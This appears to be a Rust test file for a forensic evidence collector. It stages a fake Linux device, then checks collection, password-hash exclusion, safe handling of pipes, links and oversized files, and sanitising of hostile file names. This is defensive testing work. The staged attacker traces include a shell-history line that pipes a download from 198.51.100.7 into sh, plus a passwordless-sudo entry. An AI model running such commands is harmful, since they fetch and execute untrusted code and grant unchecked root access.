//! A staged device with everything an attacker would leave in the way of whoever collects.
use super::*;
use std::{
    fs,
    os::unix::fs::{PermissionsExt, symlink},
    path::Path,
};
use tempfile::TempDir;

struct Device {
    folder: TempDir,
}

impl Device {
    fn new() -> Self {
        let device = Self { folder: tempfile::tempdir().unwrap() };
        fs::set_permissions(device.folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
        device.put("/etc/passwd", "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/bash\n");
        device.put("/etc/shadow", "root:!:19000::::::\nann:$6$salt$secret:19700::::::\n");
        device.put("/etc/os-release", "ID=debian\n");
        device.put("/home/ann/.bash_history", "curl http://198.51.100.7/x | sh\n");
        device
    }

    fn real(&self, path: &str) -> PathBuf {
        self.folder.path().join(path.trim_start_matches('/'))
    }

    fn put(&self, path: &str, text: impl AsRef<[u8]>) {
        let real = self.real(path);
        fs::create_dir_all(real.parent().unwrap()).unwrap();
        fs::write(&real, text).unwrap();
    }

    fn collect(&self) -> Collected {
        self.collect_within(Limits::default())
    }

    fn collect_within(&self, limits: Limits) -> Collected {
        let root = Root::staged(self.folder.path());
        let packages = PackageDatabase::read(&root);
        let mut all = Collected { members: Vec::new(), skipped: Vec::new() };
        let mut each = |found| match found {
            Found::Member(m) => all.members.push(m),
            Found::Skipped { what, why } => all.skipped.push((what, why)),
        };
        let work = Collect { root: &root, packages: &packages, skip: &[], limits, stopped: &|| false, each: &mut each };
        assert!(collect(work));
        all
    }
}

struct Collected {
    members: Vec<Member>,
    skipped: Vec<(String, String)>,
}

impl Collected {
    fn member(&self, name: &str) -> &Member {
        let found = self.members.iter().find(|m| m.name == name);
        let names: Vec<&str> = self.members.iter().map(|m| m.name.as_str()).collect();
        found.unwrap_or_else(|| panic!("no {name} among {names:#?}"))
    }

    fn text(&self, name: &str) -> String {
        String::from_utf8(self.member(name).body.clone()).unwrap()
    }

    fn why(&self, what: &str) -> &str {
        let found = self.skipped.iter().find(|(w, _)| w == what);
        found.map_or_else(|| panic!("{what} was not skipped: {:#?}", self.skipped), |(_, why)| why)
    }
}

/// M123
#[test]
fn a_device_tells_what_its_files_say_and_what_it_cannot_know() {
    let device = Device::new();
    device.put("/etc/cron.d/backup", "5 4 * * * root /usr/bin/true\n");
    device.put("/etc/systemd/system/odd.service", "[Service]\nExecStart=/opt/odd\n");
    device.put("/etc/sudoers.d/ann", "ann ALL=(ALL) NOPASSWD: ALL\n");
    device.put("/tmp/x", "hello");
    device.put("/var/log/auth.log", "Accepted password for ann\n");
    device.put("/var/log/wtmp", super::logins::made_up(7, "ann", "198.51.100.7", 1_700_000_000));
    device.put("/var/lib/dpkg/info/tool.list", "/usr/bin/tool\n");
    device.put("/var/lib/dpkg/status", "Package: tool\nStatus: install ok installed\nVersion: 1.2\n\n");
    let all = device.collect();
    assert_eq!(all.text("files/home/ann/%2Ebash_history"), "curl http://198.51.100.7/x | sh\n");
    assert_eq!(all.member("files/home/ann/%2Ebash_history").source, "/home/ann/.bash_history");
    assert!(all.text("tasks/etc/cron.d/backup").contains("/usr/bin/true"));
    assert!(all.text("services/etc/systemd/system/odd.service").contains("/opt/odd"));
    assert!(all.text("services/arranged.tsv").contains("task\t"), "{}", all.text("services/arranged.tsv"));
    assert!(all.text("users/etc/sudoers.d/ann").contains("NOPASSWD"));
    assert!(all.text("users/sign-ins.tsv").contains("session\tann\tpts/0\t198.51.100.7"));
    assert!(all.text("apps/packages.tsv").contains("tool\t1.2"));
    assert!(all.text("logs/var/log/auth.log").contains("Accepted"));
    let hello = "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824";
    assert!(all.text("files/temporary.tsv").contains(hello), "{}", all.text("files/temporary.tsv"));
    for live in ["network/running", "services/running", "kernel/modules", "files/open.tsv", "system/running"] {
        assert!(all.why(live).contains("not a running system"), "{live}");
    }
}

#[test]
fn passwords_stay_on_the_device() {
    let all = Device::new().collect();
    assert!(all.text("users/accounts.tsv").contains("ann\t1000\t1000\t/home/ann\t/bin/bash\tset\t19700"));
    assert!(!all.members.iter().any(|m| String::from_utf8_lossy(&m.body).contains("secret")), "no hash of a password");
}

#[test]
fn pipes_links_giants_and_the_unreadable_are_told_and_never_waited_for() {
    let device = Device::new();
    device.put("/root/.bash_history", "x");
    fs::remove_file(device.real("/root/.bash_history")).unwrap();
    let fifo = |path: &str| {
        let made = std::process::Command::new("mkfifo").arg(device.real(path)).status().unwrap();
        assert!(made.success());
    };
    fifo("/root/.bash_history");
    device.put("/var/log/auth.log", "");
    fs::File::options().write(true).open(device.real("/var/log/auth.log")).unwrap().set_len(10 << 30).unwrap();
    device.put("/tmp/giant", "");
    fs::File::options().write(true).open(device.real("/tmp/giant")).unwrap().set_len(10 << 30).unwrap();
    fifo("/tmp/pipe");
    fs::write(device.folder.path().join("outside"), "").unwrap();
    fs::remove_file(device.real("/home/ann/.bash_history")).unwrap();
    symlink("/etc/shadow", device.real("/home/ann/.bash_history")).unwrap();
    symlink("/etc", device.real("/tmp/etc")).unwrap();
    symlink("../../../../../../../../etc/hostname", device.real("/etc/hostname")).unwrap();
    let all = device.collect();
    assert!(all.why("/root/.bash_history").contains("a pipe"));
    assert!(all.why("/home/ann/.bash_history").contains("a link"));
    let log = all.member("logs/var/log/auth.log");
    assert_eq!(log.body.len() as u64, Limits::default().log);
    assert!(log.note.as_ref().unwrap().contains("of 10737418240 bytes"), "{:?}", log.note);
    let list = all.text("files/temporary.tsv");
    assert!(list.contains("/tmp/giant\tfile\t10737418240\t"), "{list}");
    assert!(list.contains("not read: too large") && list.contains("/tmp/pipe\tpipe"), "{list}");
    assert!(list.contains("/tmp/etc\tlink") && !list.contains("/tmp/etc/passwd"), "no link is entered: {list}");
    assert!(!all.members.iter().any(|m| m.name == "system/etc/hostname"), "a link in a circle leads nowhere");
}

#[test]
fn names_of_an_attacker_are_plain_in_the_archive_and_visible_in_lists() {
    let device = Device::new();
    let name = "/etc/cron.d/..\u{202E}\x1b[2J\nx";
    device.put(name, "5 4 * * * root /usr/bin/true\n");
    device.put("/tmp/a\tb\nc", "x");
    let all = device.collect();
    let odd = all.members.iter().find(|m| m.source.contains("u{202e}")).expect("it is collected");
    assert!(
        odd.name.is_ascii() && !odd.name.contains("..") && odd.name.starts_with("tasks/etc/cron.d/"),
        "{}",
        odd.name
    );
    let list = all.text("files/temporary.tsv");
    assert!(list.contains("/tmp/a\\u{9}b\\u{a}c\tfile"), "{list}");
}

#[test]
fn a_full_package_is_cut_and_says_so() {
    let device = Device::new();
    device.put("/etc/crontab", "#".repeat(4000));
    device.put("/var/log/syslog", "x".repeat(90_000));
    let all = device.collect_within(Limits { total: 20_000, file: 1000, log: 50_000, ..Limits::default() });
    let sum: usize = all.members.iter().map(|m| m.body.len()).sum();
    assert!(sum <= 20_000, "{sum}");
    let crontab = all.member("tasks/etc/crontab");
    assert_eq!((crontab.body.len(), crontab.note.as_deref()), (1000, Some("Cut at 1000 of 4000 bytes.")));
    let log = all.member("logs/var/log/syslog");
    assert!(log.note.as_ref().is_some_and(|n| n.starts_with("Cut: the last")), "{:?}", log.note);
}

#[test]
fn collecting_stops_when_it_is_told_to() {
    let device = Device::new();
    let root = Root::staged(device.folder.path());
    let packages = PackageDatabase::read(&root);
    let mut all = 0;
    let mut each = |_| all += 1;
    let stopped = Collect {
        root: &root,
        packages: &packages,
        skip: &[],
        limits: Limits::default(),
        stopped: &|| true,
        each: &mut each,
    };
    assert!(!collect(stopped));
    assert_eq!(all, 0);
}

#[test]
fn the_products_own_folders_are_left_out() {
    let device = Device::new();
    device.put("/tmp/own/secret", "x");
    let root = Root::staged(device.folder.path());
    let packages = PackageDatabase::read(&root);
    let own = device.real("/tmp/own");
    let mut text = String::new();
    let mut each = |found| {
        if let Found::Member(m) = found
            && m.name == "files/temporary.tsv"
        {
            text = String::from_utf8(m.body).unwrap();
        }
    };
    let skip = [own];
    collect(Collect {
        root: &root,
        packages: &packages,
        skip: &skip,
        limits: Limits::default(),
        stopped: &|| false,
        each: &mut each,
    });
    assert!(text.starts_with("path\t") && !text.contains("own"), "{text}");
}

/// What this machine itself says is read without any change; the rest of the test is that it ends and is whole.
#[test]
fn a_running_system_tells_its_processes_and_connections() {
    let root = Root::this_computer();
    let packages = PackageDatabase::default();
    let mut all = Collected { members: Vec::new(), skipped: Vec::new() };
    let mut each = |found| match found {
        Found::Member(m) => all.members.push(m),
        Found::Skipped { what, why } => all.skipped.push((what, why)),
    };
    let limits = Limits { hashing: 1 << 20, listed: 50, ..Limits::default() };
    let begun = Instant::now();
    let stopped = || begun.elapsed() > Duration::from_secs(60);
    let work = Collect { root: &root, packages: &packages, skip: &[], limits, stopped: &stopped, each: &mut each };
    assert!(collect(work));
    let own = std::process::id().to_string();
    let rows = all.text("processes/processes.tsv");
    assert!(rows.lines().any(|row| row.starts_with(&format!("{own}\t"))), "we are there ourselves");
    assert!(all.text("network/connections.tsv").starts_with("protocol\t"));
    assert!(all.text("files/open.tsv").lines().any(|row| row.starts_with(&format!("{own}\t"))));
    assert!(all.text("volumes/proc/mountinfo").contains(" / "));
    let names: std::collections::HashSet<&str> = all.members.iter().map(|m| m.name.as_str()).collect();
    assert_eq!(names.len(), all.members.len(), "no name is used twice");
    assert!(names.iter().all(|n| !Path::new(n).is_absolute()));
}
